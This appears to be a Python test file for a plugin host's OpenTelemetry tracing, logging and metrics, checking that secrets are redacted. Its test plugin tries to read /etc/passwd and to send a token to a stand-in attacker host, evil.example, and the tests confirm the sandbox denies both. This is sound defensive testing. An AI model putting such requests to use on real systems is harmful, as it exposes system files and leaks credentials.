"""OpenTelemetry: a span for each call, a log record for each event, metrics on collection, and no secrets."""

import asyncio
from contextlib import aclosing

import pytest
from opentelemetry.trace import StatusCode, get_current_span

from nyx_stream import Handle, PluginHost
from nyx_stream.audit import read_log
from nyx_stream.errors import PluginCallError, PluginTimeout, UnknownMethod
from nyx_stream.policy import SandboxPolicy
from tests.capabilities.http.loopback import Server, reply
from tests.conformance.machine import sealed_here
from tests.plugin_fixtures import until

LEVELS = ["inline", pytest.param("process", marks=sealed_here)]

CODE = """
import asyncio
class Main(Plugin):
    @export
    async def ping(self) -> None: ...
    @export
    async def fail(self, word: str) -> None: raise RuntimeError(word)
    @export
    async def hang(self) -> None: await asyncio.Event().wait()
    @export
    async def count(self, to: int):
        for number in range(to):
            yield number
            await self.files.exists(str(number))
    @export
    async def get(self, url: str) -> int:
        return (await self.http.get(url)).status_code
    @export
    async def peek(self) -> str: return await self.files.read_text("/etc/passwd")
"""
GRANT = SandboxPolicy.locked_down().allow_path_prefix("$DATA")
ASK = 'write = ["$DATA"]'


@pytest.mark.parametrize("level", LEVELS)
async def test_a_call_is_a_span(host, make, collected, level):
    """It is named by plugin and method, has the conventions' attributes, and is a child of the caller's span."""
    handle = await host.load(make("p", CODE, permissions=ASK), policy=GRANT, isolation=level)
    with collected.tracers.get_tracer("app").start_as_current_span("app") as parent:
        await handle.call("ping")
        assert get_current_span() is parent
    span, _ = collected.spans
    assert (span.name, span.status.status_code) == ("p/ping", StatusCode.UNSET)
    assert span.parent.span_id == parent.get_span_context().span_id
    assert dict(span.attributes) == {
        "nyx.plugin.id": "p",
        "nyx.plugin.version": "1.0",
        "nyx.isolation": level,
        "nyx.stream": False,
        "code.function.name": "ping",
    }


@pytest.mark.parametrize("level", LEVELS)
async def test_a_failed_call_exports_only_the_class_of_its_error(host, make, collected, level):
    """The text of an error is not exported: it comes from the plugin and may hold secrets."""
    folder = make("p", CODE, permissions=ASK, limits='call_timeout = "50ms"')
    handle = await host.load(folder, policy=GRANT, isolation=level)
    with pytest.raises(PluginCallError):
        await handle.call("fail", word="password1")
    with pytest.raises(PluginTimeout):
        await handle.call("hang")
    with pytest.raises(UnknownMethod):
        await handle.call("never-heard-of")
    kinds = [(span.name, span.attributes["error.type"], span.status.status_code) for span in collected.spans]
    assert kinds == [
        ("p/fail", "PluginCallError", StatusCode.ERROR),
        ("p/hang", "PluginTimeout", StatusCode.ERROR),
        ("p/_OTHER", "UnknownMethod", StatusCode.ERROR),
    ]
    assert "password1" not in "".join(span.to_json() for span in collected.spans)


async def test_a_cancelled_call_is_not_an_error(host, make, collected):
    """Its span ends without an error status, and has the class of the cancellation."""
    handle = await host.load(make("p", CODE))
    call = asyncio.ensure_future(handle.call("hang"))
    await until(lambda: handle.stats().active)
    call.cancel()
    with pytest.raises(asyncio.CancelledError):
        await call
    (span,) = collected.spans
    assert (span.attributes["error.type"], span.status.status_code) == ("CancelledError", StatusCode.UNSET)


@pytest.mark.parametrize("complete", [True, False])
async def test_a_stream_is_one_span_and_its_reader_is_outside_it(host, make, collected, complete):
    """Between two items the reader's span is current. The span ends with the stream, also if not all is read."""
    handle = await host.load(make("p", CODE, permissions=ASK), policy=GRANT)
    outside = get_current_span()
    async with aclosing(handle.stream("count", to=3)) as items:
        async for _ in items:
            assert get_current_span() is outside
            if not complete:
                break
    (span,) = collected.spans
    assert (span.name, span.attributes["nyx.stream"], span.status.status_code) == ("p/count", True, StatusCode.UNSET)
    assert [event.attributes["nyx.action"] for event in span.events] == ["stat"] * (3 if complete else 0)


async def test_decisions_are_events_of_the_span(host, make, collected):
    """Requests and opens have the conventions' attributes, without queries and users."""
    async with Server(reply(200, b"x")) as server:
        folder = make("p", CODE, permissions=f'request = ["GET {server.url}/**"]\nread = ["./"]')
        policy = SandboxPolicy.locked_down().allow_request(f"GET {server.url}/**")
        handle = await host.load(folder, policy=policy)
        assert await handle.call("get", url=f"{server.url}/a?token=secret1#piece") == 200
        with pytest.raises(PermissionError):
            await handle.call("get", url="https://evil.example/x?token=secret2")
        with pytest.raises(PermissionError):
            await handle.call("peek")
    first, second, third = ((span.events[0].name, span.events[0].attributes) for span in collected.spans)
    assert first[0] == second[0] == third[0] == "nyx.decision"
    assert (first[1]["http.request.method"], first[1]["url.full"]) == ("GET", f"{server.url}/a?…")
    assert (second[1]["url.full"], second[1]["nyx.allowed"]) == ("https://evil.example/x?…", False)
    assert third[1]["file.path"] == "/etc/passwd"
    everything = str(collected.spans) + str(collected.logs)
    everything += "".join(span.to_json() for span in collected.spans)
    everything += "".join(str(log.body) + str(dict(log.attributes)) for log in collected.logs)
    assert not [word for word in ("secret1", "secret2", "piece") if word in everything]


@pytest.mark.parametrize("level", LEVELS)
async def test_an_event_is_a_log_record(host, make, collected, level):
    """It has severity, name and time, and inline the span of the call."""
    handle = await host.load(make("p", CODE, permissions=ASK), policy=GRANT, isolation=level)
    with pytest.raises(PermissionError):
        await handle.call("peek")
    load, read = (log for log in collected.logs if log.attributes["nyx.action"] in ("load", "read"))
    assert (load.event_name, load.severity_text, load.attributes["nyx.action"]) == ("nyx.lifecycle", "INFO", "load")
    assert (read.event_name, read.severity_text) == ("nyx.decision", "WARN")
    assert read.body.startswith("p files read /etc/passwd denied: ")
    assert (read.attributes["nyx.plugin.id"], read.attributes["nyx.layer"]) == ("p", "guard")
    assert "nyx.rule" not in read.attributes
    assert load.timestamp <= read.timestamp
    (span,) = collected.spans
    assert read.span_id == (span.context.span_id if level == "inline" else 0)


async def test_metrics_are_measured_when_they_are_collected(host, make, collected):
    """Counters, gauges and the durations are exported by plugin, until the plugin is unloaded."""
    handle = await host.load(make("p", CODE, permissions=ASK), policy=GRANT)
    for _ in range(3):
        await handle.call("ping")
    with pytest.raises(PermissionError):
        await handle.call("peek")
    points = collected.points()
    values = {name: [point.value for point in found] for name, found in points.items() if name != _DURATION}
    assert values["nyx.plugin.calls"] == [4]
    assert values["nyx.plugin.call.errors"] == values["nyx.plugin.denials"] == [1]
    assert values["nyx.plugin.up"] == [1]
    assert "nyx.plugin.memory" not in values
    by_method = {(point.attributes["code.function.name"], point.attributes.get("error.type")): point.count
                 for point in points[_DURATION]}  # fmt: skip
    assert by_method == {("ping", None): 3, ("peek", "FilesystemDenied"): 1}
    (lost,) = points["nyx.audit.lost"]
    assert (lost.value, lost.attributes) == (0, {"nyx.sink": "Telemetry.record"})
    assert points["nyx.plugin.calls"][0].attributes == {"nyx.plugin.id": "p", "nyx.isolation": "inline"}
    await host.unload("p")
    assert "nyx.plugin.calls" not in collected.points()


_DURATION = "nyx.plugin.call.duration"


@sealed_here
async def test_a_sealed_plugin_has_memory_and_processor_time(host, make, collected):
    """Both are measured for its process."""
    await host.load(make("p", CODE), isolation="process")
    points = collected.points()
    assert points["nyx.plugin.memory"][0].value > 1 << 20
    assert points["nyx.plugin.cpu.time"][0].value >= 0


async def test_a_collection_takes_one_snapshot(host, make, collected, monkeypatch):
    """All instruments of a collection use the same snapshot."""
    await host.load(make("p", CODE))
    snapshots = []
    monkeypatch.setattr(host, "metrics", lambda metrics=host.metrics: snapshots.append(1) or metrics())
    collected.points()
    assert len(snapshots) == 1
    collected.points()
    assert len(snapshots) == 2


async def test_a_host_from_a_file_can_be_observed(make, tmp_path, collected):
    """Its sinks are used in addition to those of the file."""
    make("p", CODE)
    (tmp_path / "nyx.toml").write_text('audit = "audit.jsonl"\n[[plugins]]\nfrom = "plugins/p"\n')
    telemetry = collected.telemetry
    async with PluginHost.from_toml(tmp_path / "nyx.toml", audit=telemetry.record, observer=telemetry) as host:
        await host["p"].call("ping")
    assert [span.name for span in collected.spans] == ["p/ping"]
    assert [log.event_name for log in collected.logs] == ["nyx.lifecycle"]
    assert [event.action for event in read_log(tmp_path / "audit.jsonl")] == ["load"]


class FailingObserver:
    """An observer that raises in one method."""

    def __init__(self, method):
        self.method = method

    def begin(self, call):
        self.fail("begin")
        return self

    def enter(self):
        self.fail("enter")

    def leave(self):
        self.fail("leave")

    def end(self, error):
        self.fail("end")

    def fail(self, method):
        if method == self.method:
            raise RuntimeError(method)


@pytest.mark.parametrize("method", ["begin", "enter", "leave", "end"])
async def test_an_observer_that_raises_affects_no_call(make, tmp_path, caplog, method):
    """Results and errors are still those of the plugin, and the failure is logged once."""
    async with PluginHost(data_dir=tmp_path / "data", observer=FailingObserver(method)) as host:
        handle = await host.load(make("p", CODE, permissions=ASK), policy=GRANT)
        for _ in range(2):
            assert await handle.call("ping") is None
        with pytest.raises(PluginCallError, match="RuntimeError"):
            await handle.call("fail", word="x")
        assert [item async for item in handle.stream("count", to=2)] == [0, 1]
    assert caplog.text.count("its further exceptions are not logged") == 1


async def test_a_host_without_an_observer_has_plain_handles(make, tmp_path):
    """Observation costs nothing if it is not used."""
    async with PluginHost(data_dir=tmp_path / "data") as host:
        assert type(await host.load(make("p", CODE))) is Handle
